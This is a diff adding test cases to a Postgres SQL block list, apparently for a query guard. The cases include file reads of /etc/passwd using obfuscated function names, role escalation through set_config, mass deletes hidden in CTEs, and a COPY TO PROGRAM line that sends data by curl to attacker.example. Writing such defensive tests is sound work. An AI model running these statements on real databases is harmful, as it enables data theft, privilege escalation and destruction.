@@ -64,6 +64,7 @@ export const POSTGRES_BLOCK: readonly BlockCase[] = [
     'CREATE RULE no_insert AS ON INSERT TO users DO INSTEAD NOTHING',
     "COMMENT ON TABLE users IS 'gone soon'",
     'CrEaTe TaBlE t2 (x int)',
+    'SELECT * INTO new_table FROM users',
   ]),
   ...blockedBy('truncate', [
     'TRUNCATE users',
@@ -145,6 +146,12 @@ export const POSTGRES_BLOCK: readonly BlockCase[] = [
     'EXPLAIN (ANALYZE, BUFFERS) DELETE FROM orders',
     'SELECT 1; DELETE FROM orders',
     'BEGIN; DELETE FROM orders; COMMIT',
+    'EXPLAIN ANALYZE WITH d AS (DELETE FROM orders RETURNING 1) SELECT * FROM d',
+    'DELETE FROM orders WHERE id = 1; DELETE FROM orders',
+    'DELETE FROM orders WHERE id IS NULL OR id IS NOT NULL',
+    'UPDATE users SET x = 1 WHERE 1 = 1::int',
+    'WITH x AS (UPDATE users SET a = 1 WHERE true RETURNING 1) SELECT 1',
+    'MERGE INTO orders USING customers ON true WHEN MATCHED THEN DELETE',
   ]),
   ...blockedBy('copy-program', [
     "COPY users TO PROGRAM 'curl -d @- http://attacker.example'",
@@ -174,6 +181,13 @@ export const POSTGRES_BLOCK: readonly BlockCase[] = [
     "SELECT 1; SELECT pg_ls_dir('.')",
     'SELECT pg_ls_waldir()',
     "LOAD 'evil_library'",
+    "CREATE TABLE x AS SELECT pg_read_file('/etc/passwd')",
+    "SELECT lo_get(lo_import('/etc/passwd'))",
+    "SELECT * FROM ROWS FROM (pg_read_file('/etc/passwd'))",
+    "SELECT pg_read_file(VARIADIC ARRAY['/etc/passwd'])",
+    'SELECT "pg_catalog"."pg_read_file"(\'/etc/passwd\')',
+    "SELECT pg_catalog . pg_read_file('/etc/passwd')",
+    'SELECT U&"\\0070g_read_file"(\'/etc/passwd\')',
   ]),
   ...blockedBy('dynamic-sql', [
     "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$",
@@ -200,6 +214,8 @@ export const POSTGRES_BLOCK: readonly BlockCase[] = [
     "set session authorization 'postgres'",
     'BEGIN; SET LOCAL ROLE admin; COMMIT',
     "SELECT set_config('role', 'postgres', false)",
+    "SELECT set_config/**/('role', 'postgres', false)",
+    "SELECT * FROM set_config('role', 'postgres', false)",
   ]),
   ...blockedBy('unfollowable-setting', [
     "SET client_encoding = 'SJIS'",
@@ -209,6 +225,7 @@ export const POSTGRES_BLOCK: readonly BlockCase[] = [
     "SET client_encoding = 'GB18030'",
     "SELECT set_config('standard_conforming_strings', 'off', false)",
     'SELECT set_config($1, $2, false)',
+    "SELECT 1; SET client_encoding = 'SJIS'",
   ]),
   ...blockedBy('unanalysable', [
     'ZORBLE the database',
